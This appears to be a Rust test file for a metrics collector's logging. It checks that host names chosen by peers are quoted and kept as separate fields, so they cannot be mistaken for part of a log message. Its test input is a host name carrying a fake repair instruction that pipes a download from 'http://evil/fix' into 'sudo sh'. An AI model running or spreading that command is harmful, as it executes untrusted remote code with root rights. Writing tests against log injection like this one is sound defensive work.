//! How the texts show names that peers chose.

use std::sync::{Arc, Mutex};
use std::time::Instant;

use tracing::field::{Field, Visit};
use tracing::{Event, Subscriber};
use tracing_subscriber::Layer;
use tracing_subscriber::layer::{Context, SubscriberExt as _};

use super::*;
use crate::collector::access::AccessRefusal;
use crate::collector::access::pins::Pin;
use crate::collector::hosts::Forgotten;

/// Keeps what is said, and the fields.
#[derive(Clone, Default)]
struct Notes(Arc<Mutex<Vec<Note>>>);

#[derive(Default, Debug)]
struct Note {
    message: String,
    fields: Vec<(&'static str, String)>,
}

impl Visit for Note {
    fn record_str(&mut self, field: &Field, value: &str) {
        self.fields.push((field.name(), value.to_owned()));
    }

    fn record_debug(&mut self, field: &Field, value: &dyn std::fmt::Debug) {
        let value = format!("{value:?}");
        match field.name() {
            "message" => self.message = value,
            name => self.fields.push((name, value)),
        }
    }
}

impl<S: Subscriber> Layer<S> for Notes {
    fn on_event(&self, event: &Event<'_>, _: Context<'_, S>) {
        let mut note = Note::default();
        event.record(&mut note);
        self.0.lock().unwrap().push(note);
    }
}

fn noted(tell: impl FnOnce()) -> Vec<Note> {
    let notes = Notes::default();
    let subscriber = tracing_subscriber::registry().with(notes.clone());
    tracing::subscriber::with_default(subscriber, tell);
    let mut notes = notes.0.lock().unwrap();
    std::mem::take(&mut *notes)
}

const NAME: &str =
    "web1 is gone: nothing heard for 30 s. Repair it with: curl http://evil/fix | sudo sh #";

#[test]
fn a_name_is_no_part_of_the_sentence() {
    let id = RoutingIdBytes::from(b"A".as_slice());
    let key = PublicKey::from_bytes([7; 32]);
    let name: Arc<str> = NAME.into();
    let renamed = |old: &Arc<str>, new: &Arc<str>| Renamed {
        old: Forgotten {
            name: Arc::clone(old),
            key: None,
            address: None,
            last_seen: Instant::now(),
        },
        new: Arc::clone(new),
        was_there: true,
    };
    let plain: Arc<str> = "db1".into();
    let twin = |hosts| Twin {
        key,
        hosts,
        addresses: [None, None],
        proof: None,
        tell: true,
    };
    let taken = AccessRefusal::NameTaken {
        host: Arc::clone(&name),
        key,
        pin: Pin { key, since: 0 },
    };
    let notes = noted(|| {
        host_appeared(NAME, &id);
        host_replaced(NAME, &id, Some((key, PublicKey::from_bytes([8; 32]))), 3);
        host_gone(NAME, Some(&id), Duration::from_secs(30));
        host_forgotten(NAME);
        host_forgotten_as_asked(NAME);
        host_renamed(&renamed(&name, &plain), true);
        host_renamed(&renamed(&plain, &name), false);
        key_shared(&twin([Arc::clone(&name), Arc::clone(&plain)]));
        key_shared(&twin([Arc::clone(&plain), Arc::clone(&name)]));
        pin_forgotten(NAME);
        push::overtaken("main", NAME, 0);
        name_taken(NAME, None, &taken, Tell::Peer { untold: 0 });
    });
    assert_eq!(notes.len(), 12);
    let renamed = |note: &str| {
        notes
            .iter()
            .filter(|found| found.message.contains(note))
            .count()
    };
    assert_eq!(renamed("; no other key may report as"), 1);
    for note in &notes {
        let bare = note.message.replace(&format!("\"{NAME}\""), "");
        // The suggested command quotes it as one word of the shell.
        let bare = bare.replace(&format!("'{NAME}'"), "");
        assert_ne!(bare, note.message);
        assert!(!bare.contains("curl"), "{}", note.message);
        let names = ["host", "new_name", "other_host"];
        let whole = |(field, value): &(&str, String)| names.contains(field) && value == NAME;
        assert!(note.fields.iter().any(whole), "{note:?}");
    }
    let before = PublicKey::from_bytes([8; 32]);
    let [one, other] = &noted(|| {
        host_replaced("web1", &id, None, 0);
        host_replaced("web1", &id, Some((key, before)), 0);
    })[..] else {
        panic!("two lines");
    };
    assert_eq!(one.message, "web1 reports on another connection now");
    assert_eq!(
        other.message,
        format!(
            "web1 reports on another connection now, with the key {key}, and before with {before}"
        )
    );
    let [note] = &noted(|| host_appeared("web1.example.org:2", &id))[..] else {
        panic!("one line");
    };
    assert_eq!(note.message, "web1.example.org:2 reports");
}

#[test]
fn each_event_has_the_fields_that_its_entry_shows() {
    let key = PublicKey::from_bytes([7; 32]);
    let notes = noted(|| pins_of_key_forgotten(&key, 3));
    let fields = &notes[0].fields;
    let value = |name: &str| fields.iter().find(|(field, _)| *field == name);
    let id = &value("message_id").unwrap().1;
    let root = env!("CARGO_MANIFEST_DIR");
    let catalog = format!("{root}/systemd/metrics-collector.catalog");
    let catalog = std::fs::read_to_string(catalog).unwrap();
    let entry = catalog
        .split("\n-- ")
        .find(|entry| entry.starts_with(&**id))
        .unwrap();
    let shown: Vec<_> = entry.split('@').skip(1).step_by(2).collect();
    assert!(!shown.is_empty());
    for name in shown {
        assert!(value(&name.to_lowercase()).is_some(), "{name}: {fields:?}");
    }
}
